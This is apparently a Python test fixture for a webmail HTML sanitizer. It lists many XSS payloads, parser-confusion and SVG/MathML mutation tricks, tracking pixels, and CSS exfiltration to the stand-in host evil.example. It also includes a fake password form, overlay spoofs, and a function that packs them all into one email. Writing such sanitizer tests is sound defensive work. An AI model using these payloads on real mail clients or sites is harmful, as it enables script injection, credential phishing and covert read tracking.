"""What hostile mail tries: to run something, to tell its sender that it was read, to look like what it is not (S3).

Each trick stands by itself, and is closed, so that all of them fit into one message. Where one would run a script, that
is `RUN`, which marks the page and its frame.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "top.document.documentElement.dataset.ran=document.documentElement.dataset.ran=1"
EVIL: Final = "https://evil.example"

SCRIPTS: Final = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={EVIL}/s.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script/y>",
    f"<script\x0btype='text/javascript'>{RUN}</script>",
    f"<script type=module>import '{EVIL}/m.js'</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--[if gte mso 9]><script>{RUN}</script><![endif]-->",
    f"<!--[if !mso]><!--><script>{RUN}</script><!--<![endif]-->",
    f"<xml id=i><x>&lt;script&gt;{RUN}&lt;/script&gt;</x></xml>",
]
HANDLERS: Final = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror\x0c=\x0c'{RUN}'>",
    f"<img/src=x/onerror={RUN}>",
    f'<IMG """><img src="x" onerror="{RUN}">',
    f"<p onmouseover={RUN} onclick={RUN}>x</p>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<div style='width:9px' onpointerrawupdate={RUN} onanimationstart={RUN}>x</div>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<svg onload={RUN}></svg>",
    f"<img alt='\"><img src=x onerror={RUN}>' title='&quot;&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<img title=`&gt;<img src=x onerror={RUN}>`>",
]
URLS: Final = [
    f"<a href='javascript:{RUN}'>script</a>",
    f"<a href='&#106;avascript&colon;{RUN}'>entities</a>",
    f"<a href='java\tscript:{RUN}'>tab</a>",
    f"<a href='\x01javascript:{RUN}'>control</a>",
    f"<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{RUN}'>hex</a>",
    f"<a href='vbscript:{RUN}'>basic</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>data</a>",
    f"<a href='feed:javascript:{RUN}'>feed</a>",
    f"<a href='view-source:{EVIL}/'>source</a>",
    f"<a href='blob:{EVIL}/1'>blob</a>",
    f"<a href='\uff4aavascript:{RUN}'>wide letters</a>",
    f"<img src='javascript:{RUN}'>",
    f'<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>\'>',
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    f"<a href='https://atelier.example/' ping='{EVIL}/ping'>ping</a>",
    f"<map name=m><area shape=default href='javascript:{RUN}'></map><img usemap=#m src='cid:none'>",
]
FOREIGN: Final = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href='{EVIL}/s.js'></script></svg>",
    f"<svg><image href='{EVIL}/svg-image.png' xlink:href='{EVIL}/svg-xlink.png'></image></svg>",
    f"<svg><use href='{EVIL}/use.svg#x'></use></svg>",
    f"<svg><filter><feImage href='{EVIL}/fe.png'></feImage></filter></svg>",
    f"<svg><a><animate attributeName=href values='javascript:{RUN}'></animate><text>x</text></a></svg>",
    f"<svg><foreignObject><img src='{EVIL}/foreign.png'></foreignObject></svg>",
    f"<svg><style>@import '{EVIL}/svg.css';</style></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>--></table>"
        "</math>"
    ),
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'></a></style></svg>",
    (
        f"<math><annotation-xml encoding='text/html'><style></math><img src=x onerror={RUN}></style>"
        "</annotation-xml></math>"
    ),
    f"<svg><desc><noscript><img alt='</noscript><img src=x onerror={RUN}>'></noscript></desc></svg>",
]
ELEMENTS: Final = [
    f"<iframe src='{EVIL}/frame'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data='{EVIL}/object'></object>",
    f"<embed src='{EVIL}/embed'>",
    f"<applet code=x codebase='{EVIL}/'></applet>",
    f"<video poster='{EVIL}/poster.png' src='{EVIL}/v.mp4' autoplay></video>",
    f"<audio src='{EVIL}/a.mp3' autoplay></audio>",
    f"<video><source src='{EVIL}/s.mp4'><track default src='{EVIL}/t.vtt'></video>",
    f"<picture><source srcset='{EVIL}/source.png'><img src='cid:none'></picture>",
    f"<form action='{EVIL}/post'><input name=password autofocus><button>Log in</button></form>",
    f"<input type=image src='{EVIL}/input.png'>",
    f"<button formaction='{EVIL}/'>Log in</button>",
    f"<isindex action='{EVIL}/'>",
    f"<link rel=stylesheet href='{EVIL}/x.css'>",
    f"<link rel=prefetch href='{EVIL}/prefetch'>",
    "<link rel=dns-prefetch href='//dns.evil.example'>",
    f"<link rel=preconnect href='{EVIL}'><link rel=preload as=image href='{EVIL}/preload.png'>",
    f"<link rel=icon href='{EVIL}/icon.png'><link rel=manifest href='{EVIL}/manifest'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "<meta http-equiv=Content-Security-Policy content=\"img-src *; script-src 'unsafe-inline'\">",
    "<meta http-equiv=x-dns-prefetch-control content=on>",
    f"<base href='{EVIL}/' target=_top>",
    f"<bgsound src='{EVIL}/b.wav'>",
    f"<frameset><frame src='{EVIL}/frame2'></frameset>",
    f"<portal src='{EVIL}/portal'></portal>",
    f"<img srcset='{EVIL}/set.png 2x' sizes=100vw>",
    f"<img dynsrc='{EVIL}/dyn' lowsrc='{EVIL}/low'>",
    "<img src='cid:none'><img src='cid:../../../logout/'><img src='/auth/logout/'><img src='attachments/0/'>",
]
STYLES: Final = [
    f"<style>@import url({EVIL}/import.css); body {{ background: url({EVIL}/body.png) }}</style>",
    f"<style>@font-face {{ font-family: x; src: url({EVIL}/f.woff) }} p {{ font-family: x }}</style>",
    f"<style>@media screen {{ p {{ background: url({EVIL}/media.png) }} }}</style>",
    f"<style>@supports (display: grid) {{ p {{ background: url({EVIL}/supports.png) }} }}</style>",
    f"<style>input[value^=a] {{ background: url({EVIL}/value-a) }}</style>",
    f"<p style='background:url({EVIL}/bg.png)'>x</p>",
    f"<p style='background:url(&quot;{EVIL}/bg2.png&quot;)'>x</p>",
    f"<p style='background:\\75 rl({EVIL}/escaped.png)'>x</p>",
    f"<p style='background:u/**/rl({EVIL}/comment.png)'>x</p>",
    f"<p style='background-image:image-set(&quot;{EVIL}/set1.png&quot; 1x)'>x</p>",
    f"<p style='background-image:-webkit-image-set(url({EVIL}/set2.png) 1x)'>x</p>",
    f"<p style='background:-webkit-cross-fade(url({EVIL}/fade.png),url({EVIL}/fade2.png),50%)'>x</p>",
    f"<ul style='list-style-image:url({EVIL}/list.png)'><li>x</li></ul>",
    f"<ul style='list-style:url({EVIL}/list2.png)'><li>x</li></ul>",
    f"<p style='cursor:url({EVIL}/cursor.png),auto'>x</p>",
    f"<p style='border-image:url({EVIL}/border.png) 1'>x</p>",
    f"<p style='filter:url({EVIL}/filter.svg#x)'>x</p>",
    f"<p style='mask:url({EVIL}/mask.svg#x);clip-path:url({EVIL}/clip.svg#x)'>x</p>",
    f"<p style='shape-outside:url({EVIL}/shape.png);content:url({EVIL}/content.png)'>x</p>",
    f"<p style='--x:url({EVIL}/variable.png);background:var(--x)'>x</p>",
    f"<p style='behavior:url({EVIL}/x.htc);-moz-binding:url({EVIL}/x.xml#x)'>x</p>",
    f"<p style='width:expression({RUN})'>x</p>",
    f"<p style='color:red;/*&lt;/style&gt;&lt;script&gt;{RUN}&lt;/script&gt;*/'>x</p>",
    f"<table background='{EVIL}/table.png'><tr><td background='//evil.example/cell.png'>x</td></tr></table>",
    f"<body background='{EVIL}/body2.png' text=red>",
]
COVERS: Final = [
    "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>Your session has ended</div>",
    "<div style='position:absolute;top:-400px;left:0'>over the header</div>",
    "<div style='margin-top:-9999px'>over the header</div>",
    "<div style='transform:translateY(-500px) scale(99)'>over everything</div>",
    "<div style='height:99999999px;width:99999999px'>huge</div>",
    "<img src='cid:none' width=99999999 height=99999999>",
    "<div style='font-size:99999px'>huge letters</div>",
    "<div id=reader class='toast mail-opened' data-key=e data-print>takes names of ours</div>",
    f"<a href='{EVIL}/' target=_top style='display:block;height:100vh'>everywhere</a>",
    "<dialog open>Log in again</dialog>",
    "<div popover id=p>x</div><a href='#p'>x</a>",
    "&#x202e;gpj.exe <bdo dir=rtl>txet desrever</bdo>",
    "<p hx-get=/email/ hx-trigger=load>asks in our name</p>",
    "<p contenteditable accesskey=e tabindex=1 autofocus>takes the focus</p>",
]
#: What swallows all that follows, which no closing helps against.
ALONE: Final = [
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}></style></form>",
    f"<textarea><script>{RUN}</script><img src=x onerror={RUN}>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<img src='{EVIL}/unclosed.gif?",
    f"<!--><img src=x onerror={RUN}>",
    f"<title><img src=x onerror={RUN}>",
]
#: What a message may show after a click.
PICTURES: Final = [
    f"<img src='{EVIL}/open.gif?id=1' width=1 height=1>",
    "<img src='http://evil.example/plain.gif'>",
    "<img src='//evil.example/relative.gif'>",
    f"<img src=' {EVIL}/blanks.gif ' alt='' loading=eager fetchpriority=high crossorigin=use-credentials>",
    f"<a href='https://atelier.example/'><img src='{EVIL}/linked.gif' onerror={RUN} srcset='{EVIL}/other.gif 2x'></a>",
]
REMOTE_PICTURES: Final = [
    f"{EVIL}/open.gif?id=1",
    "http://evil.example/plain.gif",
    "http://evil.example/relative.gif",
    f"{EVIL}/blanks.gif",
    f"{EVIL}/linked.gif",
]
TRICKS: Final = [*SCRIPTS, *HANDLERS, *URLS, *FOREIGN, *ELEMENTS, *STYLES, *COVERS, *PICTURES]


def message_of(tricks: list[str]) -> bytes:
    """A message in HTML with all of them, and a last sentence by which one sees that nothing has swallowed it."""
    html = "\n".join(tricks)
    head = "From: x@evil.example\nSubject: Hello\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n"
    return f"{head}<p>Hello</p>{html}<p>The end of all tricks.</p>".encode()
